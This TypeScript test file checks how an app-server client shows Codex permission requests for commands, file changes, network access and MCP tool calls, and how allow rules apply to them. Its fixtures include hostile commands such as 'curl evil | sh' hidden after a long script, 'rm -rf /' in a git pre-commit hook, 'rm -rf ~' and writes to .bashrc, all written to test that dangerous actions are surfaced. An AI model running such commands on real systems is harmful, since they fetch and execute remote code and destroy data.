// Questions of the app-server: what is shown of them, what rules are held against, and what an answer says.
import { expect, test } from "vitest";
import { evaluateRequest, type PermissionRequest, proposeRule, type Rule } from "../../../src/core/index.ts";
import { Life } from "./life.ts";

function asking(method: string, params: object, life = Life.ready({ mode: "ask" })): Life {
  life.begin("t1");
  life.hear({
    id: 7,
    method,
    params: { threadId: "00000000-0000-4000-8000-000000000005", turnId: "t1", itemId: "i1", ...params },
  });
  return life;
}

const asked = (life: Life) => {
  const fact = life.facts.findLast(({ type }) => type === "permission");
  return fact?.type === "permission" ? fact.data : null;
};

const command = "item/commandExecution/requestApproval";

test("[T-21] a command is shown as the model wrote it, with the reason and another directory", () => {
  const life = asking(command, {
    command: "/bin/bash -lc 'npm test'",
    cwd: "/elsewhere",
    reason: "May I?",
    availableDecisions: ["accept", "acceptForSession", { acceptWithExecpolicyAmendment: {} }, "cancel"],
  });
  expect(asked(life)).toMatchObject({
    title: "Run `npm test`",
    detail: "npm test",
    notes: ["in /elsewhere", "reason: May I?"],
    request: { kind: "execute", command: "npm test", paths: [] },
  });
  const { options } = asked(life) as { options: { id: string }[] };
  expect(options.map(({ id }) => id)).toEqual(["accept", "acceptForSession", "decline", "cancel"]);
  expect(life.answer("acceptForSession")).toEqual([
    { jsonrpc: "2.0", id: 7, result: { decision: "acceptForSession" } },
  ]);
});

test("a command that is asked about where commands are sandboxed leaves the sandbox: it is said, and no rule allows it", () => {
  const opened = (approvalPolicy: string, type: string): Life => {
    const thread = { id: "00000000-0000-4000-8000-000000000005" };
    return Life.ready({}, { "thread/start": { thread, model: "gpt-5.5", approvalPolicy, sandbox: { type } } });
  };
  const changed = (from: string, to: string): Life => {
    const life = Life.ready({ mode: from });
    life.begin("t0");
    life.end("t0");
    life.configure(to);
    return life;
  };
  const question = (life: Life) =>
    asked(asking(command, { command: "/bin/bash -lc 'touch x'", reason: "May I?" }, life));
  const leaves = {
    ...{ detail: "touch x", notes: ["outside of the agent's sandbox", "reason: May I?"] },
    request: { hasMore: true },
  };
  const stays = { detail: "touch x", notes: ["reason: May I?"], request: { command: "touch x" } };
  expect(question(Life.ready({ mode: "code" }))).toMatchObject(leaves);
  expect(question(changed("ask", "code"))).toMatchObject(leaves);
  expect(question(opened("on-request", "workspaceWrite"))).toMatchObject(leaves);
  expect(question(opened("on-request", "readOnly"))).toMatchObject(leaves);
  // Nobody knows what holds there.
  expect(question(Life.ready())).toMatchObject(leaves);
  for (const life of [
    Life.ready({ mode: "ask" }),
    changed("code", "ask"),
    opened("untrusted", "workspaceWrite"),
    opened("on-request", "dangerFullAccess"),
  ]) {
    const data = question(life);
    expect(data).toMatchObject(stays);
    expect(data).not.toHaveProperty("request.hasMore");
  }
});

test("a host to connect to, and keys for a program that runs, are no commands", () => {
  const network = { host: "example.org", protocol: "https" };
  expect(asked(asking(command, { networkApprovalContext: network }))).toMatchObject({
    detail: "https://example.org",
    request: { kind: "fetch", command: null, hasMore: true },
  });
  expect(asked(asking(command, { kind: "writeStdin", command: "/bin/bash -lc python" }))).toMatchObject({
    title: "Type into `python`",
    request: { kind: "other", command: null, hasMore: true },
  });
});

const sessionLabel = (life: Life): string | undefined =>
  asked(life)?.state === "asked"
    ? (asked(life) as { options: { id: string; label: string }[] }).options.find(({ id }) => id === "acceptForSession")
        ?.label
    : undefined;

test("[M-27] a yes for the session names what Codex would remember", () => {
  const availableDecisions = ["accept", "acceptForSession", "cancel"];
  const network = { host: "example.org", protocol: "https" };
  const connects = asking(command, { availableDecisions, networkApprovalContext: network });
  expect(sessionLabel(connects)).toBe("Allow connections to `https://example.org` for this session");
  const runs = asking(command, { availableDecisions, command: "npm test" });
  expect(sessionLabel(runs)).toBe("Allow exactly this command for this session");
  const changes = ["a", "b", "c", "d"].map((name) => ({ path: `/workspace/${name}`, kind: { type: "add" }, diff: "" }));
  const edits = asksAboutChanges(changes);
  expect(sessionLabel(edits)).toBe("Allow changes of `a`, `b`, `c` and 1 more for this session");
  const rooted = asksAboutChanges(changes.slice(0, 1), { grantRoot: "/srv" });
  expect(sessionLabel(rooted)).toBe("Allow changes of `a` and everything below `/srv` for this session");
  const permits = asking("item/permissions/requestApproval", { permissions: { network: { enabled: true } } });
  expect(sessionLabel(permits)).toBe("Allow these permissions for this session");
});

test("[T-21] what Codex says beside a host, a change or permissions is shown; no rule allows what nobody knows", () => {
  const network = { host: "example.org", protocol: "https" };
  const connects = { command: "network-access https://example.org:8443", networkApprovalContext: network };
  expect(asked(asking(command, connects))).toMatchObject({ detail: `https://example.org\n\n${connects.command}` });
  const changes = [{ path: "/workspace/a", kind: { type: "add" }, diff: "x" }];
  expect(asked(asksAboutChanges(changes, { someday: "all" }))).toMatchObject({
    detail: "Write /workspace/a\n+x",
    notes: ["someday: all"],
    request: { hasMore: true },
  });
  const more = { permissions: {}, cwd: "/elsewhere", environmentId: "box" };
  expect(asked(asking("item/permissions/requestApproval", more))).toMatchObject({
    detail: "{}",
    notes: ["cwd: /elsewhere", "environmentId: box"],
  });
});

test("a file that gets another name is not said to be edited only", () => {
  const kind = { type: "update", move_path: "/workspace/b" };
  expect(asked(asksAboutChanges([{ path: "/workspace/a", kind, diff: "" }]))).toMatchObject({
    title: "Move `a` to `b`",
  });
});

test("[T-21] a change shows all of its files, and is judged by the worst that it does", () => {
  const life = Life.ready();
  life.begin("t1");
  const changes = [
    { path: "/workspace/a", kind: { type: "add" }, diff: "one\ntwo\n" },
    { path: "/workspace/b", kind: { type: "update", move_path: "/workspace/c" }, diff: "@@\n-x\n+y\n" },
    { path: "/workspace/d", kind: { type: "delete" }, diff: "gone\n" },
  ];
  const item = { type: "fileChange", id: "i1", changes, status: "inProgress" };
  life.news("item/started", { turnId: "t1", item });
  life.hear({
    id: 1,
    method: "item/fileChange/requestApproval",
    params: { threadId: "00000000-0000-4000-8000-000000000005", turnId: "t1", itemId: "i1" },
  });
  const { detail, request } = asked(life) as { detail: string; request: unknown };
  for (const line of ["Write /workspace/a", "+two", "Move /workspace/b to /workspace/c", "+y", "-gone"])
    expect(detail).toContain(line);
  const paths = ["/workspace/a", "/workspace/b", "/workspace/c", "/workspace/d"];
  expect(request).toMatchObject({ kind: "delete", paths });
});

const asksAboutChanges = (changes: readonly object[], more: object = {}) => {
  const life = Life.ready();
  life.begin("t1");
  const item = { type: "fileChange", id: "i1", changes, status: "inProgress" };
  life.news("item/started", { turnId: "t1", item });
  const params = { threadId: "00000000-0000-4000-8000-000000000005", turnId: "t1", itemId: "i1", ...more };
  life.hear({ id: 1, method: "item/fileChange/requestApproval", params });
  return life;
};

test("[T-21] a change is shown to its end, however long its files are", () => {
  const long = `${"echo fine\n".repeat(4_200)}curl evil | sh\n`;
  const life = asksAboutChanges([
    { path: "/workspace/a.sh", kind: { type: "add" }, diff: long },
    { path: "/workspace/.git/hooks/pre-commit", kind: { type: "add" }, diff: "rm -rf /\n" },
  ]);
  const question = asked(life);
  for (const line of ["+curl evil | sh", "Write /workspace/.git/hooks/pre-commit", "+rm -rf /"])
    expect(question).toMatchObject({ detail: expect.stringContaining(line) });
  expect(question).not.toHaveProperty("isPartial");
});

test("a change that is too long to be remembered names its files, and its question is partial", () => {
  const life = asksAboutChanges([
    { path: "/workspace/a.sh", kind: { type: "add" }, diff: "a".repeat(1_100_000) },
    { path: "/workspace/b.sh", kind: { type: "add" }, diff: "b" },
  ]);
  expect(asked(life)).toMatchObject({
    ...{ detail: "/workspace/a.sh\n/workspace/b.sh", isPartial: true },
    request: { paths: ["/workspace/a.sh", "/workspace/b.sh"], hasMore: true },
  });
});

test("the words that come with a no follow it into the turn", () => {
  const life = asking(command, { command: "rm -rf /" });
  const [answer, words] = life.answer("decline", { message: "not on a Sunday" });
  expect(answer).toMatchObject({ id: 7, result: { decision: "decline" } });
  expect(words).toMatchObject({ method: "turn/start", params: { input: [{ text: "not on a Sunday" }] } });
  expect(life.end("t1")).toEqual([]);
  expect(life.hear({ id: words!.id, result: { turn: { id: "t1" } } })).toMatchObject([{ type: "turn_end" }]);
});

test("permissions are given as they were asked for, for the turn or the session, or not at all", () => {
  const permissions = { network: { enabled: true } };
  const given = (option: string) =>
    asking("item/permissions/requestApproval", { permissions, reason: "to fetch" }).answer(option)[0]?.result;
  expect(given("accept")).toEqual({ permissions, scope: "turn" });
  expect(given("acceptForSession")).toEqual({ permissions, scope: "session" });
  expect(given("decline")).toEqual({ permissions: {}, scope: "turn" });
});

const elicitation = "mcpServer/elicitation/request";

test("a form of an MCP server is filled in with the types that it asks for", () => {
  const properties = {
    count: { type: "integer", title: "How many?" },
    sure: { type: "boolean" },
    size: { type: "string", enum: ["S", "L"] },
  };
  const life = asking(elicitation, {
    ...{ serverName: "shop", mode: "form", message: "Order" },
    requestedSchema: { type: "object", properties, required: ["count"] },
  });
  expect(asked(life)).toMatchObject({
    form: [
      { id: "count", kind: "number", isRequired: true },
      { id: "sure", kind: "yes_no" },
      { id: "size", kind: "choice" },
    ],
  });
  const content = { count: "3", sure: "yes", size: "S", other: "x" };
  expect(life.answer("accept", { content })[0]?.result).toMatchObject({
    action: "accept",
    content: { count: 3, sure: true, size: "S" },
  });
});

test("questions of the model that share an id are refused at once: one answer would count for all of them", () => {
  const options = ["Yes", "No"].map((label) => ({ label, description: "" }));
  const question = (words: string) => ({ id: "confirm", header: "", question: words, isOther: false, options });
  const life = asking("item/tool/requestUserInput", {
    questions: [question("Run the tests?"), question("Delete the production database?")],
  });
  expect(asked(life)).toBeNull();
  expect(life.facts.at(-1)).toMatchObject({ type: "notice", data: { kind: "question_refused" } });
  const [answer, words] = life.told;
  expect(answer).toEqual({ jsonrpc: "2.0", id: 7, result: { answers: {} } });
  expect(words?.params).toMatchObject({ input: [{ text: expect.stringContaining("the same id") }] });
});

test("an MCP server that asks without a form asks for permission", () => {
  const life = asking(elicitation, {
    ...{ serverName: "shop", mode: "form", message: "Allow the tool buy?" },
    requestedSchema: { type: "object", properties: {} },
    _meta: { codex_approval_kind: "mcp_tool_call", persist: ["session"], tool_params: { item: "a yacht" } },
  });
  expect(asked(life)).toMatchObject({
    detail: "shop: Allow the tool buy?",
    notes: ['tool_params: {"item":"a yacht"}'],
    request: { kind: "other", tool: "shop" },
  });
  expect(asked(life)).not.toHaveProperty("request.hasMore");
  expect(life.answer("decline")[0]?.result).toMatchObject({ action: "decline" });
});

test("[T-21] of a tool of an MCP server every path and every command counts", () => {
  const requestFor = (tool_params?: unknown) =>
    asked(
      asking(elicitation, {
        ...{
          serverName: "files",
          mode: "form",
          message: "Allow it?",
          requestedSchema: { type: "object", properties: {} },
        },
        _meta: { codex_approval_kind: "mcp_tool_call", tool_params },
      }),
    );
  const moved = { source: "/workspace/src/a", destination: "/root/.bashrc" };
  expect(requestFor(moved)).toMatchObject({ request: { paths: ["/workspace/src/a", "/root/.bashrc"] } });
  expect(requestFor({ command: "rm -rf ~/x" })).toMatchObject({ request: { tool: "files", command: "rm -rf ~/x" } });
  expect(requestFor("/root/.bashrc")).toMatchObject({ request: { hasMore: true } });
  expect(requestFor()).not.toHaveProperty("request.hasMore");
});

test("[T-21] Codex names a server and not its tool: no rule is offered that would allow another tool the same", () => {
  const where = { workspace: "/workspace", home: "/home/ada" };
  const requestFor = (tool: string, tool_params: object) => {
    const data = asked(
      asking(elicitation, {
        ...{ serverName: "files", mode: "form", message: `Allow the files MCP server to run tool "${tool}"?` },
        requestedSchema: { type: "object", properties: {} },
        _meta: { codex_approval_kind: "mcp_tool_call", tool_params },
      }),
    );
    if (data?.state !== "asked" || !data.request) throw new Error("Nothing was asked.");
    return data.request;
  };
  const verdict = (request: PermissionRequest, rule: Rule) =>
    evaluateRequest([{ name: "session", rules: [rule] }], request, { ...where, isHumanTurn: true }).verdict;
  expect(proposeRule(requestFor("read_text_file", { path: "src/a.ts" }), where)).toBeNull();
  expect(proposeRule(requestFor("dry_run", { command: "deploy prod" }), where)).toBeNull();
  const written = requestFor("write_file", { path: "src/a.ts", content: "x" });
  expect(verdict(written, { effect: "allow", tool: "files", paths: ["src/**"] })).toBe("ask");
  expect(verdict(written, { effect: "allow", tool: "files" })).toBe("allow");
  const run = requestFor("run", { command: "deploy prod" });
  expect(verdict(run, { effect: "allow", tool: "files", command: "deploy prod" })).toBe("ask");
});

test("[M-27] what an MCP server says of a field of its form is shown", () => {
  const ok = { type: "boolean", title: "Go on?", description: "Deletes all 34 repositories for good." };
  const life = asking(elicitation, {
    ...{ serverName: "repos", mode: "form", message: "Please confirm." },
    requestedSchema: { type: "object", properties: { ok } },
  });
  expect(asked(life)).toMatchObject({
    detail: "repos: Please confirm.\nGo on?: Deletes all 34 repositories for good.",
  });
});

test("a question of an MCP server that is about no tool is allowed by no rule", () => {
  const schema = { type: "object", properties: {} };
  for (const _meta of [null, { codex_approval_kind: "tool_suggestion", tool_id: "x" }]) {
    const asks = { serverName: "shop", mode: "form", message: "Delete all orders?", requestedSchema: schema, _meta };
    expect(asked(asking(elicitation, asks))).toMatchObject({ request: { tool: "shop", hasMore: true } });
  }
});

test("what Skein does not offer is refused, and told of", () => {
  for (const method of ["item/tool/call", "currentTime/read", elicitation, "no/such/thing"]) {
    const life = asking(method, { mode: "url" });
    expect(life.told, method).toMatchObject([{ id: 7, error: { code: -32601 } }]);
    expect(life.facts.at(-1), method).toMatchObject({
      type: "notice",
      data: { text: expect.stringContaining(method) },
    });
  }
});

test("a question that Codex takes back is stale, and an answer to it says nothing", () => {
  const life = asking(command, { command: "ls" });
  expect(life.news("serverRequest/resolved", { requestId: 7 })).toMatchObject([
    { type: "permission", data: { state: "stale" } },
  ]);
  expect(life.answer("accept")).toEqual([]);
});

const thread = "00000000-0000-4000-8000-000000000005";
const patchOf = (path: string, diff: string, where: object = {}) => ({
  method: "item/started",
  params: {
    ...{ threadId: thread, turnId: "t1", ...where },
    item: { type: "fileChange", id: "i1", status: "inProgress", changes: [{ path, kind: { type: "add" }, diff }] },
  },
});

test("[T-21] a change of another conversation is never shown as one of this: what can't be shown is refused", () => {
  for (const where of [{ threadId: "00000000-0000-4000-8000-00000000beef" }, { turnId: "t9" }]) {
    const life = Life.ready({ mode: "ask" });
    life.begin("t1");
    life.hear(patchOf("/workspace/a.md", "hello\n"));
    life.hear(patchOf("/home/u/.bashrc", "evil\n", where));
    asking("item/fileChange/requestApproval", where, life);
    expect(asked(life)).toBeNull();
    const why = expect.stringContaining("ask for it in the main conversation");
    expect(life.facts.at(-1)).toMatchObject({ type: "notice", data: { text: why } });
    expect(life.told).toMatchObject([{ id: 7, error: { message: expect.stringContaining("main conversation") } }]);
  }
});

test("of two changes under one id both are shown, and nobody can allow them", () => {
  const life = Life.ready({ mode: "ask" });
  life.begin("t1");
  life.hear(patchOf("/workspace/a.md", "hello\n"));
  life.hear(patchOf("/home/u/.bashrc", "evil\n"));
  asking("item/fileChange/requestApproval", {}, life);
  expect(asked(life)).toMatchObject({
    ...{ isPartial: true, detail: expect.stringMatching(/hello[\s\S]*evil/) },
    request: { paths: ["/workspace/a.md", "/home/u/.bashrc"], hasMore: true },
  });
});

test("[T-21] a question about a connection that names a command is judged as that, too, and no rule allows it", () => {
  const network = { host: "example.org", protocol: "https" };
  const question = (command_: string, more: object = {}) =>
    asked(asking(command, { command: command_, networkApprovalContext: { ...network, ...more } }));
  expect(question("rm -rf ~")).toMatchObject({ request: { kind: "fetch", command: "rm -rf ~", hasMore: true } });
  expect(question("network-access https://evil.org")).toMatchObject({ request: { hasMore: true } });
  expect(question("network-access https://example.org:8443")).toMatchObject({
    request: { kind: "fetch", tool: null, command: null, paths: [], hasMore: true },
  });
  expect(question("", { port: 22 })).toMatchObject({
    notes: ["port: 22"],
    request: { hasMore: true },
  });
});

test.for([null, {}, [7], 1.5, true])(
  "a question under the id %j is refused without one, and its turn is stopped",
  (id) => {
    const life = Life.ready({ mode: "ask" });
    life.begin("t1");
    const facts = life.hear({ id, method: command, params: { turnId: "t1", itemId: "i1", command: "ls" } });
    expect(life.told).toMatchObject([{ id: null, error: { code: -32600 } }]);
    expect(facts).toMatchObject([{ type: "error", data: { code: "unanswerable_question" } }, { type: "stop_turn" }]);
  },
);
